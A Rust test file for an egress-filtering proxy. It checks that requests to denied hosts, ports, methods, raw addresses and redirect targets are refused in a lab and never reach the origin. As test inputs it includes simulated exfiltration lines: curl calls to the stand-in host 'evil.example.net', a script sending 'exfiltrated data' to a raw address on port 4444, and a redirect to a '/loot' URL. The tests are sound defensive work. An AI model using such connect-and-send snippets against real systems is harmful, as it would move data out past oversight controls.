//! What no rule names: hosts, ports, protocols, methods, raw addresses.

use std::net::SocketAddr;

use gig_policy::DenyReason;
use gig_tests::lab::{
    Finished, Lab, Way, denial::Refusal, http_origin::greet, network::internet_address,
};

const ALLOWED: &str = "api.example.com";
const DENIED: &str = "evil.example.net";

fn forbidden(run: &Finished) -> bool {
    run.text().contains("403")
}

/// curl found no address.
fn unresolved(run: &Finished) -> bool {
    run.status == 6
}

/// The connection was reset, and nothing had been said on it.
fn cut_off(run: &Finished) -> bool {
    run.text().contains("ConnectionResetError")
}

#[test]
fn denied_host_over_https_by_proxy_never_reaches_origin() {
    let lab = Lab::new();
    let _origin = lab.https(DENIED, greet);
    let run = lab.gig().allow(ALLOWED).run([
        "curl",
        "-sS",
        "-m",
        "20",
        "-v",
        "https://evil.example.net/",
    ]);
    Refusal::new(DenyReason::HostNotAllowed)
        .of(DENIED)
        .client(|run| run.error_text().contains("403"))
        .nothing_leaves()
        .check(&run);
}

/// As a scan of ports does: nothing was sent, and the record says where it was tried.
#[test]
fn a_connection_that_says_nothing_is_in_the_record() {
    let lab = Lab::new();
    let script = "connect('11.0.1.77', 2222).close()\nprint('closed')";
    let run = lab.gig().allow(ALLOWED).wire(script);
    Refusal::new(DenyReason::IpNotAllowed)
        .of("11.0.1.77")
        .client_sees_nothing_because("whoever closes at once hears no answer")
        .nothing_leaves()
        .check(&run);
}

#[test]
fn denied_name_does_not_resolve() {
    let lab = Lab::new();
    let _origin = lab.https(DENIED, greet);
    let run = lab.gig().allow(ALLOWED).going(Way::Straight);
    let run = run.run(["curl", "-sS", "-m", "20", "https://evil.example.net/"]);
    Refusal::new(DenyReason::HostNotAllowed)
        .of(DENIED)
        .times(2)
        .client(unresolved)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn nothing_is_allowed_without_a_policy() {
    let lab = Lab::new();
    let _origin = lab.https(DENIED, greet);
    let run = lab.gig().going(Way::Straight).run([
        "curl",
        "-sS",
        "-m",
        "20",
        "https://evil.example.net/",
    ]);
    Refusal::new(DenyReason::HostNotAllowed)
        .of(DENIED)
        .times(2)
        .client(unresolved)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn denied_host_over_http_is_answered_403() {
    let lab = Lab::new();
    let _origin = lab.http(DENIED, greet);
    let run =
        lab.gig()
            .allow(ALLOWED)
            .run(["curl", "-sS", "-m", "20", "-i", "http://evil.example.net/"]);
    let client = |run: &Finished| {
        let text = run.text();
        text.contains("403")
            && text.contains("egress_denied")
            && text.contains("host_not_allowed")
            && text.to_lowercase().contains("proxy-status: gig")
    };
    Refusal::new(DenyReason::HostNotAllowed)
        .of(DENIED)
        .client(client)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn denied_name_in_sni_towards_a_raw_address_is_explained_in_http() {
    let lab = Lab::new();
    let origin = lab.https(DENIED, greet);
    let at = origin.raw().address().ip();
    let pin = format!("{DENIED}:443:{at}");
    let run = lab.gig().allow(ALLOWED).going(Way::Straight).run([
        "curl",
        "-sS",
        "-m",
        "20",
        "-i",
        "--resolve",
        &pin,
        "https://evil.example.net/",
    ]);
    let refusal = Refusal::new(DenyReason::HostNotAllowed).or(DenyReason::IpNotAllowed);
    refusal
        .client(forbidden)
        .unseen_by(&origin)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn denied_port_of_an_allowed_host_is_refused() {
    let lab = Lab::new();
    let address = lab.address_for(ALLOWED);
    let at = SocketAddr::new(address, 8443);
    let origin = lab.tls(at, &[ALLOWED], &[], |conversation| conversation.drain());
    let script = "s, status = tunnel('api.example.com:8443'); print(status)\n\
        s = tls('api.example.com', 8443); s.sendall(get('/', 'api.example.com')); print(until(s, '\\r\\n\\r\\n'))";
    let run = lab.gig().allow(ALLOWED).wire(script);
    let refusal = Refusal::new(DenyReason::PortNotAllowed)
        .of(ALLOWED)
        .times(2);
    let twice = |run: &Finished| run.text().matches("HTTP/1.1 403").count() == 2;
    refusal
        .unseen_by(&origin)
        .nothing_leaves()
        .client(twice)
        .check(&run);
}

#[test]
fn denied_method_never_reaches_origin() {
    let lab = Lab::new();
    let origin = lab.https(ALLOWED, greet);
    let policy = "version: 1\nname: read\negress:\n  - host: api.example.com\n    \
        rules: [{methods: [GET]}]\n";
    for version in ["--http1.1", "--http2"] {
        let url = "https://api.example.com/thing";
        let words = [
            "curl", "-sS", "-m", "20", "-i", version, "-X", "DELETE", url,
        ];
        let run = lab.gig().policy(policy).run(words);
        let refusal = Refusal::new(DenyReason::MethodNotAllowed).of(ALLOWED);
        refusal
            .client(forbidden)
            .unseen_by(&origin)
            .nothing_leaves()
            .check(&run);
    }
}

#[test]
fn method_names_are_compared_exactly() {
    let lab = Lab::new();
    let origin = lab.https(ALLOWED, greet);
    let policy = "version: 1\nname: read\negress:\n  - host: api.example.com\n    \
        rules: [{methods: [GET]}]\n";
    let script = "s = tls('api.example.com'); s.sendall(get('/', 'api.example.com', method='get')); print(until(s, '\\r\\n\\r\\n'))";
    let run = lab.gig().policy(policy).wire(script);
    Refusal::new(DenyReason::MethodNotAllowed)
        .of(ALLOWED)
        .client(forbidden)
        .unseen_by(&origin)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn raw_address_without_a_rule_is_refused() {
    let lab = Lab::new();
    let at = SocketAddr::new(internet_address(200), 443);
    let origin = lab.tls(at, &["11.0.1.200"], &[], |conversation| {
        conversation.drain()
    });
    let url = format!("https://{}/", at.ip());
    let run = lab
        .gig()
        .allow(ALLOWED)
        .run(["curl", "-sS", "-k", "-m", "20", "-v", &url]);
    Refusal::new(DenyReason::IpNotAllowed)
        .unseen_by(&origin)
        .nothing_leaves()
        .client(|run| run.status != 0 && run.error_text().contains("403"))
        .check(&run);
}

#[test]
fn raw_address_with_plain_bytes_is_reset() {
    let lab = Lab::new();
    let at = SocketAddr::new(internet_address(200), 4444);
    let origin = lab.tcp(at, |conversation| conversation.drain());
    let script = "def go():\n s = connect('11.0.1.200', 4444); s.sendall(b'exfiltrated data\\n'); \
        return ending(s)\nattempt(go)";
    let run = lab.gig().allow(ALLOWED).wire(script);
    let refusal = Refusal::new(DenyReason::IpNotAllowed).or(DenyReason::PortNotAllowed);
    refusal
        .client(cut_off)
        .unseen_by(&origin)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn opaque_bytes_towards_an_http_rule_are_refused() {
    let lab = Lab::new();
    let address = lab.address_for(ALLOWED);
    let origin = lab.tcp(SocketAddr::new(address, 443), |conversation| {
        conversation.drain()
    });
    let script = "def go():\n s = connect('api.example.com', 443); s.sendall(b'\\x00\\x01not http at all\\n'); \
        return ending(s)\nattempt(go)";
    let run = lab.gig().allow(ALLOWED).wire(script);
    Refusal::new(DenyReason::UnsupportedProtocol)
        .of(ALLOWED)
        .client(cut_off)
        .unseen_by(&origin)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn wildcard_does_not_cover_the_apex() {
    let lab = Lab::new();
    let _origin = lab.https("example.org", greet);
    let run = lab.gig().allow("*.example.org").going(Way::Straight);
    let run = run.run(["curl", "-sS", "-m", "20", "https://example.org/"]);
    Refusal::new(DenyReason::HostNotAllowed)
        .of("example.org")
        .times(2)
        .client(unresolved)
        .nothing_leaves()
        .check(&run);
}

#[test]
fn redirect_to_a_denied_host_is_not_followed_out() {
    let lab = Lab::new();
    let _from = lab.https(ALLOWED, |request, exchange| {
        exchange.body(request)?;
        exchange.send("HTTP/1.1 302 Found\r\nlocation: https://evil.example.net/loot\r\ncontent-length: 0\r\n\r\n")
    });
    let to = lab.https(DENIED, greet);
    for way in Way::BOTH {
        let run = lab.gig().allow(ALLOWED).going(way);
        let run = run.run(["curl", "-sSL", "-m", "20", "https://api.example.com/"]);
        let refusal = Refusal::new(DenyReason::HostNotAllowed)
            .of(DENIED)
            .repeatedly();
        refusal
            .client(|run| unresolved(run) || run.error_text().contains("response 403"))
            .unseen_by(&to)
            .check(&run);
    }
}
